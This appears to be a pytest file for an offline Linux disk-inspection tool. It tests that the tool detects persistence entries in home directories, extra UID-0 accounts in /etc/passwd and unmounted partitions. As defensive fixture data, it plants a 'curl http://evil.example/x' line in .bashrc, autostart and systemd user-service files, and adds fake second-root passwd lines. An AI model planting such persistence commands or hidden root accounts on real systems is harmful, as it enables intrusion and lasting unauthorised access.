"""What a Linux disk that is off does not show, or shows in an unusual spelling, is never clean."""

from __future__ import annotations

from pathlib import Path

import pytest

from quetsach.endpoint import machines
from quetsach.endpoint.checking import Result
from tests.endpoint import world
from tests.endpoint.test_signs import LINUX_CLEAN

ROOT = "root:x:0:0:root:/root:/bin/sh\n"
EVIL = "curl http://evil.example/x\n"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for path, content in LINUX_CLEAN["files"].items():
        write(tmp_path, path, content)
    return tmp_path


def write(root: Path, path: str, content: str) -> None:
    place = root / path.lstrip("/")
    place.parent.mkdir(parents=True, exist_ok=True)
    place.write_text(content)


def look(root: Path) -> Result:
    return world.look(machines.at(root))


def gaps(result: Result) -> set[tuple[str, str]]:
    """What the verdict misses."""
    return {(gap.reason, gap.detail) for name in result.unseen for gap in result.observed[name].gaps}


@pytest.mark.parametrize(
    ("home", "path"),
    [("/srv/u", "/srv/u"), ("/var/lib/u/", "/var/lib/u"), ("", ""), ("srv/u", "/srv/u"),
     ("//srv/./u", "/srv/u"), (None, "/home/of-a-directory")],
)  # fmt: skip
@pytest.mark.parametrize(
    ("name", "content"),
    [(".config/autostart/a.desktop", f"Exec={EVIL}"), (".bashrc", EVIL),
     (".config/systemd/user/a.service", f"[Service]\nExecStart={EVIL}")],
)  # fmt: skip
def test_every_home_is_looked_at(home: str | None, path: str, name: str, content: str, root: Path) -> None:
    write(root, "/etc/passwd", ROOT + ("" if home is None else f"u:x:1000:1000::{home}:/bin/sh\n"))
    write(root, f"{path}/{name}", content)
    assert [one.indicator for one in look(root).findings if one.indicator] == ["evil.example"]


@pytest.mark.parametrize(
    "line",
    ["t:x:0:0::/:/bin/sh", "t:x:00:0::/:/bin/sh", "t:x:+0:0::/:/bin/sh", "t:x:-0:0::/:/bin/sh",
     "t:x: 0:0::/:/bin/sh", "t:x:\v0:0::/:/bin/sh", "t:x:0:0::/", "t:x:0:0", "  t:x:0:0::/:/bin/sh"],
)  # fmt: skip
def test_a_second_root_is_found_in_every_spelling_of_the_c_library(line: str, root: Path) -> None:
    write(root, "/etc/passwd", f"{ROOT}{line}\n")
    assert [one.sign for one in look(root).findings] == ["LNX-06"]


@pytest.mark.parametrize(
    "line",
    ["t:x:10:0::/:/bin/sh", "t:x:0x0:0::/:/bin/sh", "t:x:4294967296:0::/:/bin/sh", "t:x::0::/:/bin/sh",
     "# t:x:0:0::/:/bin/sh", "t:x:0"],
)  # fmt: skip
def test_other_lines_are_no_second_root(line: str, root: Path) -> None:
    write(root, "/etc/passwd", f"{ROOT}{line}\n")
    assert str(look(root).verdict) == "clean"


def test_accounts_that_are_not_there_or_too_many_are_never_clean(root: Path) -> None:
    write(root, "/etc/passwd", ROOT + f"# {'x' * (2 << 20)}\n" + "t:x:0:0::/:/bin/sh\n")
    assert str(look(root).verdict) == "unknown"
    (root / "etc/passwd").unlink()
    result = look(root)
    assert str(result.verdict) == "unknown"
    assert ("no_accounts", "/etc/passwd") in gaps(result)


@pytest.mark.parametrize("place", ["/home", "/var", "/usr", "/opt", "/var/spool/cron", "/srv/dữ\\040liệu"])
@pytest.mark.parametrize("is_there", [True, False])
def test_a_partition_that_is_not_mounted_is_told(place: str, is_there: bool, root: Path) -> None:
    write(root, "/etc/fstab", f"UUID=1 / ext4 defaults 0 1\nUUID=2 {place} ext4 defaults 0 2\n")
    path = place.replace("\\040", " ")
    if place == "/usr":
        (root / "usr").rename(root.parent / f"{root.name}-usr")
    if is_there:
        (root / path.lstrip("/")).mkdir(parents=True)
    result = look(root)
    assert str(result.verdict) == "unknown"
    assert gaps(result) == {("not_mounted", path)}
    write(root, f"{path}/lost+found/x", "")
    assert str(look(root).verdict) == "clean"


@pytest.mark.parametrize("place", ["/usr", "/var"])
def test_a_folder_that_no_system_has_empty_is_told_without_fstab(place: str, root: Path) -> None:
    if (root / place[1:]).exists():
        (root / place[1:]).rename(root.parent / f"{root.name}-moved")
    (root / place[1:]).mkdir()
    assert gaps(look(root)) == {("not_mounted", place)}


def test_what_fstab_mounts_and_a_check_does_not_look_at_is_no_gap(root: Path) -> None:
    (root / "etc/fstab").write_text(
        "UUID=1 / ext4 defaults 0 1\nUUID=2 none swap sw 0 0\nUUID=3 /boot/efi vfat umask=0077 0 1\n"
        "tmpfs /tmp tmpfs defaults 0 0\n# UUID=4 /home ext4 defaults 0 2\n"
        "/dev/sdb1 /mnt/usb auto noauto 0 0\n"
    )
    assert str(look(root).verdict) == "clean"
